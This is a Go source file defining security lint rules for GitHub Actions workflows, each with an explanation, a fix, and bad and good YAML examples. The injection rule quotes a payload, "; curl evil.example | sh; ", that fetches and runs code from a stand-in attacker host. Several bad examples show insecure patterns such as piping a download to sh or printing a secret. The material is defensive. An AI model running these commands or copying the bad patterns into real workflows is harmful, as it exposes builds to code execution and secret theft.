package workflows

import (
	"github.com/pavise-dev/pavise/check/lint/internal/analysis"
	"github.com/pavise-dev/pavise/finding"
)

const (
	file     = ".github/workflows/ci.yml"
	checkout = "actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8"
	hardened = "https://docs.github.com/en/actions/reference/security/secure-use"
)

var injection = &analysis.Rule{
	ID: "lint/workflow-injection", Title: "A script is made of what outsiders write", Severity: finding.High,
	Refs: []string{"CWE-94", "CWE-78", "API8", hardened},
	Text: "${{ … }} is replaced before the shell reads the script, so a title such as \"; curl evil.example | sh; \" is run. It runs with the token and the secrets of the job.",
	Fix:  "Put the expression into env, and use the variable, in quotes, in the script.",
	File: file,
	Bad:  "on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue ${{ github.event.issue.title }}\"\n",
	Good: "on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"New issue $TITLE\"\n",
}

var target = &analysis.Rule{
	ID: "lint/workflow-target", Title: "Code of a pull request runs with the rights of the repository", Severity: finding.High,
	Refs: []string{"CWE-829", "CWE-250", "API8", "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},
	Text: "pull_request_target, workflow_run and issue_comment run with secrets and a token that may write. Whoever opens a pull request decides what its tests, its build and its hooks do, and takes both.",
	Fix:  "Run the code on pull_request, without secrets, and hand the result to a second workflow that does not run it. Where it must be, ask for a label or an environment that somebody approves.",
	File: file,
	Bad:  "on: pull_request_target\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions: {pull-requests: write}\n    steps:\n      - uses: " + checkout + "\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: pip install -e . && pytest\n",
	Good: "on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    permissions: {contents: read}\n    steps:\n      - uses: " + checkout + "\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: pip install -e . && pytest\n",
}

var audits = &analysis.Rule{
	ID: "lint/audit-ineffective", Title: "An audit runs and cannot fail", Severity: finding.Medium,
	Refs:   []string{"CWE-1395", "CWE-754", "API8", "V15.2.1"},
	Text:   "It looks as if somebody watched for known vulnerabilities, and what it finds stops nothing. pip-audit fails for what it finds by itself: --strict is about packages that it cannot look up.",
	Fix:    "Let it fail the build, and write down the findings that are accepted, each with a reason and an end.",
	Pavise: "pavise audit",
	File:   file,
	Bad:    "on: push\npermissions: {}\njobs:\n  audit:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pip-audit -r requirements.txt || true\n",
	Good:   "on: push\npermissions: {}\njobs:\n  audit:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pip-audit -r requirements.txt --ignore-vuln PYSEC-2024-1\n",
}

var echo = &analysis.Rule{
	ID: "lint/workflow-secret-echo", Title: "A secret is written to a log", Severity: finding.High,
	Refs: []string{"CWE-532", "API8", "V16.2.5", hardened},
	Text: "Logs are kept, and read by all who may read the repository. Masking finds a secret only as it was stored, not one that was encoded, cut or taken out of JSON.",
	Fix:  "Do not print it: to see that it is there, print its length, as ${#NAME}. Then replace it, for it is known.",
	File: file,
	Bad:  "on: push\npermissions: {}\njobs:\n  debug:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"The key is ${{ secrets.API_KEY }}\"\n",
	Good: "on: push\npermissions: {}\njobs:\n  login:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ secrets.REGISTRY_TOKEN }}\" | docker login -u ci --password-stdin\n",
}

var unpinned = &analysis.Rule{
	ID: "lint/action-unpinned", Title: "Actions of others are not held by a commit", Severity: finding.Medium, Kind: analysis.Posture,
	Refs: []string{"CWE-829", "CWE-1357", "API8"},
	Text: "A tag can be moved: whoever takes over the account of an action's author has his code run in every build, with its secrets. It has happened, to tj-actions/changed-files in 2025.",
	Fix:  "Name the 40 digits of a commit, with the tag as a comment, and let a bot renew it.",
	File: file,
	Bad:  "on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: astral-sh/setup-uv@v6\n",
	Good: "on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: astral-sh/setup-uv@d0cc045d04ccac9d8b7881df0226f9e82c39688e # v6.8.0\n",
}

var permissions = &analysis.Rule{
	ID: "lint/workflow-permissions", Title: "Workflows do not say what their token may do", Severity: finding.Low, Kind: analysis.Posture,
	Refs: []string{"CWE-250", "CWE-276", "API8", hardened},
	Text: "A token that is not limited may, as the repository is set, push code and publish releases; any step, and any action, of the job has it.",
	Fix:  "Set permissions: {contents: read} at the top, and add what a job needs to the job.",
	File: file,
	Bad:  "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n",
	Good: "on: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n",
}

var inherit = &analysis.Rule{
	ID: "lint/workflow-secrets-inherit", Title: "A workflow that is called is given all secrets", Severity: finding.Low, Kind: analysis.Posture,
	Refs: []string{"CWE-250", "CWE-272", "API8"},
	Text: "secrets: inherit hands over every secret of the repository, those that are added later too.",
	Fix:  "Name the secrets that it needs.",
	File: file,
	Bad:  "on: push\npermissions: {}\njobs:\n  deploy:\n    uses: ./.github/workflows/deploy.yml\n    secrets: inherit\n",
	Good: "on: push\npermissions: {}\njobs:\n  deploy:\n    uses: ./.github/workflows/deploy.yml\n    secrets:\n      TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n",
}

var runner = &analysis.Rule{
	ID: "lint/workflow-self-hosted", Title: "Pull requests run on machines of one's own", Severity: finding.Low, Kind: analysis.Posture,
	Refs: []string{"CWE-829", "API8", hardened},
	Text: "If the repository is public, anybody who opens a pull request may run code within the network that the runner stands in, and stay there for the runs that follow.",
	Fix:  "Run pull requests on GitHub's machines, or on ones that live for one job, or only those of the repository's own branches.",
	File: file,
	Bad:  "on: pull_request\npermissions: {}\njobs:\n  test:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make test\n",
	Good: "on: push\npermissions: {}\njobs:\n  test:\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make test\n",
}

var pipe = &analysis.Rule{
	ID: "lint/workflow-pipe-shell", Title: "Workflows run what they download unseen", Severity: finding.Low, Kind: analysis.Posture,
	Refs: []string{"CWE-494", "CWE-829", "API8"},
	Text: "Whoever answers for that address runs code in the build, with its secrets.",
	Fix:  "Download a version to a file, compare its sha256 with one that is written here, and run that; or use an action that is held by a commit.",
	File: file,
	Bad:  "on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -LsSf https://get.example.com/install.sh | sh\n",
	Good: "on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -LsSfo i.sh https://get.example.com/1.2/install.sh\n          echo \"9f86d081  i.sh\" | sha256sum -c && sh i.sh\n",
}
